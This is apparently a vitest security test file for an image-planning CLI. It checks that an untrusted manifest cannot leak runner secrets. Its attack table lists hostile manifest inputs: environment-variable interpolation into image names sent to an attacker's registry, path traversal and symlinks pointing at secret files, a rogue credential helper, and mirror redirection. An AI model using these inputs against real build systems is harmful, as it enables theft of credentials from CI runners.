/**
 * The plan of a stranger's pull request: whatever the manifest tries, no secret of the machine is in
 * what is printed or written, and none is sent to a registry of theirs.
 */
import { randomBytes } from 'node:crypto'
import { cp, mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { startFakeRegistry, type FakeRegistry } from '../fakes/registry.ts'
import { waybill, type CliResult } from '../support/cli.ts'
import { makeImage } from '../support/images.ts'
import { openFolder, seedFake } from '../support/project.ts'

const LAYOUT = join(import.meta.dirname, '../../examples/hello/layout')
/** Of an image that only the machine may see. */
const PRIVATE = 'sha256:0bee2b2e3a0169038327cebf540b5c5584dd3807d2a4d44fcc8ac8e361b9636a'

interface Machine extends AsyncDisposable {
  /** The stranger's; it lets nobody in without credentials, and writes down what it is shown. */
  readonly theirs: FakeRegistry
  /** The runner's own, for which docker's configuration has credentials. */
  readonly ours: FakeRegistry
  /** What gets one into theirs; nowhere on the machine until a test puts it there. */
  readonly password: string
  readonly secrets: readonly string[]
  /** Puts files and links into the stranger's checkout. */
  checkOut(
    files: Readonly<Record<string, string>>,
    links?: Readonly<Record<string, string>>,
  ): Promise<void>
  plan(...flags: readonly string[]): Promise<CliResult>
  /** All that anybody else gets to see. */
  seen(result: CliResult): Promise<string>
  readonly path: string
}

const random = () => randomBytes(12).toString('hex')

async function machine(): Promise<Machine> {
  const secret = { env: random(), file: random(), name: random(), helper: random(), ours: random() }
  const password = random()
  const auth = (password: string) => ({ kind: 'basic', users: { runner: password } }) as const
  const [theirs, ours] = await Promise.all([
    startFakeRegistry({ auth: auth(password), showAuthorization: true }),
    startFakeRegistry({ auth: auth(secret.ours), showAuthorization: true }),
  ])
  const folder = await openFolder()
  const put = async (name: string, text: string, mode = 0o644) => {
    await mkdir(dirname(join(folder.path, name)), { recursive: true })
    await writeFile(join(folder.path, name), text, { mode })
  }
  await put('secrets/token', `${secret.file}\n`)
  await put(`secrets/${secret.name}.yaml`, `${secret.file}: x: y`)
  await cp(LAYOUT, join(folder.path, 'private'), { recursive: true })
  const answer = JSON.stringify({ ServerURL: '', Username: 'u', Secret: secret.helper })
  await put(
    'bin/docker-credential-evil',
    `#!/bin/sh\ntouch ${folder.path}/called\necho '${answer}'\n`,
    0o755,
  )
  const basic = (password: string) => Buffer.from(`runner:${password}`).toString('base64')
  const auths = { [ours.host]: { auth: basic(secret.ours) } }
  await put('home/.docker/config.json', JSON.stringify({ auths }))
  await mkdir(join(folder.path, 'repo'))

  const cwd = join(folder.path, 'repo')
  const env = {
    SECRET: secret.env,
    HOME: join(folder.path, 'home'),
    PATH: `${join(folder.path, 'bin')}:${process.env['PATH']}`,
  }
  return {
    theirs,
    ours,
    path: folder.path,
    password,
    secrets: [...Object.values(secret), ...Object.values(secret).map(basic), PRIVATE.slice(7)],
    async checkOut(files, links = {}) {
      for (const [name, text] of Object.entries(files)) await put(`repo/${name}`, text)
      for (const [name, to] of Object.entries(links)) {
        await mkdir(dirname(join(cwd, name)), { recursive: true })
        await symlink(to, join(cwd, name))
      }
    },
    plan: (...flags) => waybill(['plan', '--out', '../plan.json', ...flags], { cwd, env }),
    async seen({ stdout, stderr }) {
      const plan = await readFile(join(folder.path, 'plan.json'), 'utf8').catch(() => '')
      const asked = theirs.log.map(({ path, query, headers }) =>
        JSON.stringify([path, query.toString(), headers]),
      )
      // what was sent as user and password is written down as it was
      const shown = [...asked.join('\n').matchAll(/[Bb]asic ([\w+/=]+)/g)].map(([, text = '']) =>
        Buffer.from(text, 'base64').toString(),
      )
      return [stdout, stderr, plan, ...asked, ...shown].join('\n')
    },
    async [Symbol.asyncDispose]() {
      await Promise.all([theirs.close(), ours.close(), folder[Symbol.asyncDispose]()])
    },
  }
}

type Attack = (machine: Machine) => {
  readonly files?: Readonly<Record<string, string>>
  readonly links?: Readonly<Record<string, string>>
  readonly flags?: readonly string[]
}

const images = (lines: string) => `version: 1\nimages: [${lines}]\n`
const registry = ({ theirs }: Machine, settings: string) =>
  `version: 1
registries: { "${theirs.host}": ${settings} }
images: [{ from: "${theirs.host}/a/b:1" }]
`

const ATTACKS: readonly (readonly [string, Attack])[] = [
  [
    'a variable in a source',
    ({ theirs }) => ({
      files: { 'images.yaml': images(`{ from: "${theirs.host}/a/\${SECRET}:1" }`) },
    }),
  ],
  [
    'a variable in a tag',
    ({ theirs }) => ({
      files: { 'images.yaml': images(`{ from: "${theirs.host}/a:\${SECRET}" }`) },
    }),
  ],
  [
    'a variable in a place',
    ({ theirs }) => ({
      files: {
        'images.yaml': images(`{ from: "${theirs.host}/a:1", to: "local/\${SECRET:-x}:1" }`),
      },
    }),
  ],
  [
    'a variable in a name',
    ({ theirs }) => ({
      files: { 'images.yaml': images(`{ from: "${theirs.host}/a:1", name: "\${SECRET}" }`) },
    }),
  ],
  [
    'a variable in an error',
    () => ({ files: { 'images.yaml': images('{ from: "NO/${SECRET}", tags: ["${SECRET}!"] }') } }),
  ],
  [
    'a variable as the user',
    machine => ({
      files: {
        'images.yaml': registry(
          machine,
          '{ auth: { username: { env: SECRET }, password: { env: SECRET } } }',
        ),
      },
    }),
  ],
  [
    'a file as the password',
    machine => ({
      files: {
        'images.yaml': registry(
          machine,
          '{ auth: { username: u, password: { file: ../secrets/token } } }',
        ),
      },
    }),
  ],
  [
    'a linked file as the password',
    machine => ({
      files: {
        'images.yaml': registry(machine, '{ auth: { username: u, password: { file: ./token } } }'),
      },
      links: { token: '../secrets/token' },
    }),
  ],
  [
    'a helper',
    machine => ({ files: { 'images.yaml': registry(machine, '{ auth: { helper: evil } }') } }),
  ],
  [
    'a file of authorities',
    machine => ({
      files: { 'images.yaml': registry(machine, '{ tls: { ca: ../secrets/token } }') },
    }),
  ],
  [
    'a certificate',
    machine => ({
      files: {
        'images.yaml': registry(
          machine,
          '{ tls: { cert: ../secrets/token, key: ../secrets/token } }',
        ),
      },
    }),
  ],
  ['plain HTTP', machine => ({ files: { 'images.yaml': registry(machine, '{ http: true }') } })],
  [
    'a mirror of the own registry',
    ({ theirs, ours }) => ({
      files: {
        'images.yaml': `version: 1
registries: { "${ours.host}": { mirrors: ["${theirs.host}"] } }
images: [{ from: "${ours.host}/a/b:1" }]
`,
      },
    }),
  ],
  [
    'a store elsewhere',
    ({ path }) => ({
      files: {
        'images.yaml': `${images('{ from: away/hello:1.0 }')}stores: { away: { kind: layout, path: ${path}/private } }`,
      },
    }),
  ],
  [
    'a store above',
    () => ({
      files: {
        'images.yaml': `${images('{ from: away/hello:1.0 }')}stores: { away: { kind: layout, path: ../private } }`,
      },
    }),
  ],
  [
    'a store at home',
    () => ({
      files: {
        'images.yaml': `${images('{ from: away/hello:1.0 }')}stores: { away: { kind: layout, path: ~/../private } }`,
      },
    }),
  ],
  [
    'a linked store',
    () => ({
      files: {
        'images.yaml': `${images('{ from: away/hello:1.0 }')}stores: { away: { kind: layout, path: ./away } }`,
      },
      links: { away: '../private' },
    }),
  ],
  [
    'a linked default store',
    () => ({
      files: { 'images.yaml': images('{ from: local/hello:1.0, to: local/x:1 }') },
      links: { '.waybill/store': '../../private' },
    }),
  ],
  ['a linked manifest', () => ({ links: { 'images.yaml': '../secrets/token' } })],
  ['a linked folder', () => ({ links: { 'images.d': '../secrets' }, flags: ['-f', 'images.d'] })],
  [
    'a link in a folder',
    () => ({
      files: { 'images.d/a.yaml': images('') },
      links: { 'images.d/b.yaml': '../../secrets/token' },
      flags: ['-f', 'images.d'],
    }),
  ],
]

describe("the plan of a stranger's manifest gives no secret away:", () => {
  it.each(ATTACKS)('%s', async (_, attack) => {
    await using at = await machine()
    seedFake(at.theirs, 'a/b', '1', await makeImage({ seed: 'a' }))
    const { files = {}, links, flags = [] } = attack(at)
    await at.checkOut(files, links)
    const result = await at.plan('--untrusted', ...flags)
    const seen = await at.seen(result)
    expect(at.secrets.filter(secret => seen.includes(secret))).toEqual([])
    expect(result).toMatchObject({ code: 64, stdout: '' })
    expect(result.stderr).toMatch(/untrusted|a link takes/)
    expect([at.theirs.log, at.ours.log]).toEqual([[], []])
    await expect(readFile(join(at.path, 'called'))).rejects.toThrow('ENOENT')
  })

  it('and so does its validation', async () => {
    await using at = await machine()
    await at.checkOut({ 'images.yaml': registry(at, '{ auth: { helper: evil } }') })
    const args = ['validate', '--untrusted', '--output', 'json']
    const result = await waybill(args, { cwd: join(at.path, 'repo') })
    const { issues }: { issues: readonly { code: string; line: number }[] } = JSON.parse(
      result.stdout,
    )
    expect(issues.map(({ code, line }) => [code, line])).toEqual([['MANIFEST_UNTRUSTED', 2]])
    expect(result.code).toBe(64)
  })

  it('while without --untrusted it would', async () => {
    await using at = await machine()
    const auth = '{ auth: { username: { env: SECRET }, password: { file: ../secrets/token } } }'
    await at.checkOut({ 'images.yaml': registry(at, auth) })
    const seen = await at.seen(await at.plan())
    expect(at.secrets.filter(secret => seen.includes(secret))).toHaveLength(2)
  })
})

it("plans with the runner's credentials, and shows them to their registry only", async () => {
  await using at = await machine()
  const image = await makeImage({ seed: 'a' })
  seedFake(at.theirs, 'a/b', '1', image)
  seedFake(at.ours, 'c/d', '2', image)
  await at.checkOut({
    'images.yaml': images(
      `{ from: "${at.theirs.host}/a/b:1" }, { from: "${at.ours.host}/c/d:2", to: cache }`,
    ),
  })
  const auth = '{ username: runner, password: { env: PASSWORD } }'
  const runners = `registries: { "${at.theirs.host}": { auth: ${auth} } }
stores: { cache: { kind: layout, path: ../private } }
`
  await writeFile(join(at.path, 'home/registries.yaml'), runners)
  const flags = ['--untrusted', '--registries', '../home/registries.yaml', '--output', 'json']
  const result = await waybill(['plan', ...flags], {
    cwd: join(at.path, 'repo'),
    env: { PASSWORD: at.password, HOME: join(at.path, 'home') },
  })
  expect([result.code, result.stderr]).toEqual([0, ''])
  const { steps }: { steps: readonly { from: string }[] } = JSON.parse(result.stdout)
  expect(new Set(steps.map(({ from }) => from))).toEqual(
    new Set([`${at.theirs.host}/a/b:1`, `${at.ours.host}/c/d:2`]),
  )
  const seen = await at.seen(result)
  expect(at.secrets.filter(secret => seen.includes(secret))).toEqual([])
  // theirs was shown what is for it
  expect(seen).toContain(`runner:${at.password}`)
  expect(`${result.stdout}${result.stderr}`).not.toContain(at.password)
})
